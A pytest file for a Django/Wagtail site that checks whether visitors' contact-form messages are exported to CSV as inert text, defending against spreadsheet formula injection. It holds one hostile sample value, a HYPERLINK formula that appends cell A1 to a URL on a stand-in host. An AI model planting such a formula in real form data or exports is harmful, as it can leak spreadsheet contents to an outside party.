"""Exports of visitors' texts, which must not run as formulas in a spreadsheet."""

import pytest
from django.urls import reverse
from wagtail.contrib.forms.models import FormSubmission

from home.models import FormField
from tests.factories import home as make
from tests.factories.accounts import SuperuserFactory

pytestmark = [pytest.mark.django_db]
HOSTILE = '=HYPERLINK("https://x.example?"&A1;"Facture")'


def test_message_of_a_visitor_is_exported_as_text(client):
    page = make.ContactPageFactory(parent=make.make_site())
    FormField.objects.create(
        page=page, sort_order=1, label="Message", field_type="multiline", clean_name="message"
    )
    FormSubmission.objects.create(page=page, form_data={"message": HOSTILE})
    client.force_login(SuperuserFactory())
    answer = client.get(reverse("wagtailforms:list_submissions", args=[page.pk]), {"export": "csv"})
    content = b"".join(answer.streaming_content).decode()
    assert "'=HYPERLINK" in content
    assert "\n=" not in content
    assert ",=" not in content
    assert '"=' not in content
